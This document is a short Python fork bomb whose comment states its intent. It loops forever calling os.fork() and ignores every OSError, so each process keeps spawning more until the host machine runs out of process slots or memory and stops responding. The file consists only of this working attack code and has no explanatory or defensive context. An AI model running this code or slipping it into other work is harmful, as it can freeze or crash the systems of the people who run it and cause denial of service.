# Forks for ever and shrugs off every refusal.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
